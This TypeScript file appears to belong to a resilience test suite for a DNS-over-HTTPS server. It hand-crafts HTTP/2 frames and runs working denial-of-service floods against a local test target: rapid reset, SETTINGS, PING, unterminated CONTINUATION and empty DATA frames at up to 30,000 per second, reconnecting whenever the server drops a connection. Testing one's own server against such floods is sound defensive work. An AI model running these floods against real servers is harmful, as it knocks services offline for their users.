/** Floods of HTTP/2 frames for DNS over HTTPS, written by hand: a library would keep the limits that an attacker ignores. */
import { connect, type TLSSocket } from 'node:tls';
import { CA_CERT } from '../../test/support/authority.ts';
import { END_HEADERS, END_STREAM, FRAME, field, frame, POST_FIELDS, PREFACE } from '../../test/support/http2-frames.ts';
import { paced } from '../pace.ts';
import { type Attack, type Scene, sleep } from './attack.ts';
import { query, TYPES } from './message.ts';

/** `:method: GET` and `:scheme: https` from the static table, then `:path` and `:authority`. */
function requestFor(message: Buffer): Buffer {
  const path = field(4, `/dns-query?dns=${message.toString('base64url')}`);
  return Buffer.concat([Buffer.of(0x82, 0x87), path, field(1, 'dns.test')]);
}

const REQUEST = requestFor(query(0, 'kubernetes.default.svc.cluster.local', TYPES.A));
const CANCEL = Buffer.of(0, 0, 0, 8);

/** The frames of one step of a flood; `stream` is a number that was not used on the connection. */
type Step = (stream: number) => readonly Buffer[];

const FLOODS: Readonly<Record<string, { title: string; step: Step; perSecond: number }>> = {
  reset: {
    title: 'requests that are reset at once (rapid reset)',
    step: (stream) => [
      frame(FRAME.HEADERS, END_STREAM | END_HEADERS, stream, REQUEST),
      frame(FRAME.RST_STREAM, 0, stream, CANCEL),
    ],
    perSecond: 30_000,
  },
  settings: {
    title: 'SETTINGS frames',
    step: () => [frame(FRAME.SETTINGS, 0, 0, Buffer.alloc(0))],
    perSecond: 30_000,
  },
  ping: { title: 'PING frames', step: () => [frame(FRAME.PING, 0, 0, Buffer.alloc(8))], perSecond: 30_000 },
  continuation: {
    title: 'header fields without an end (CONTINUATION)',
    step: (stream) => [
      stream === 1
        ? frame(FRAME.HEADERS, END_STREAM, 1, REQUEST)
        : frame(FRAME.CONTINUATION, 0, 1, field(0x0f, 'x'.repeat(200))),
    ],
    perSecond: 20_000,
  },
  data: {
    title: 'empty DATA frames',
    step: (stream) => [
      stream === 1 ? frame(FRAME.HEADERS, END_HEADERS, 1, POST_FIELDS) : frame(FRAME.DATA, 0, 1, Buffer.alloc(0)),
    ],
    perSecond: 30_000,
  },
};

/** Nothing is written while more than this waits to be sent: the server does not read faster. */
const MAX_WAITING_OCTETS = 256 * 1024;
const CONNECTIONS = 4;

/** Floods over some connections. Each connection that the server closes is opened again. */
async function floodFrames({ target, seconds }: Scene, step: Step, perSecond: number) {
  let steps = 0;
  let closed = 0;
  let isOver = false;
  const open: { socket: TLSSocket; stream: number; isReady: boolean }[] = [];
  const dial = (place: number) => {
    const socket = connect({
      ...{ host: '127.0.0.1', port: target.httpsPort, ca: CA_CERT, servername: 'dns.test', ALPNProtocols: ['h2'] },
    });
    const connection = { socket, stream: 1, isReady: false };
    open[place] = connection;
    socket.on('secureConnect', () => {
      socket.write(Buffer.concat([PREFACE, frame(FRAME.SETTINGS, 0, 0, Buffer.alloc(0))]));
      connection.isReady = true;
    });
    socket.resume();
    socket.on('error', () => {});
    socket.on('close', () => {
      connection.isReady = false;
      closed++;
      if (!isOver) setTimeout(() => !isOver && dial(place), 20);
    });
  };
  for (let i = 0; i < CONNECTIONS; i++) dial(i);
  let turn = 0;
  const send = () => {
    const connection = open[turn++ % CONNECTIONS]!;
    if (!connection.isReady || connection.socket.writableLength > MAX_WAITING_OCTETS) return;
    connection.socket.write(Buffer.concat(step(connection.stream)));
    connection.stream += 2;
    steps++;
  };
  const stop = paced(perSecond, send, 100);
  await sleep(seconds * 1000);
  stop();
  isOver = true;
  for (const { socket } of open) socket.destroy();
  return { note: `${Math.round(steps / seconds)}/s sent, ${closed} connections closed by the server` };
}

export const http2: readonly Attack[] = Object.entries(FLOODS).map(([id, { title, step, perSecond }]) => ({
  id: `http2-${id}`,
  title: `up to ${perSecond.toLocaleString('en')}/s ${title} on DNS over HTTPS`,
  setup: { https: true },
  long: id !== 'reset' && id !== 'continuation',
  run: (scene) => floodFrames(scene, step, perSecond),
}));
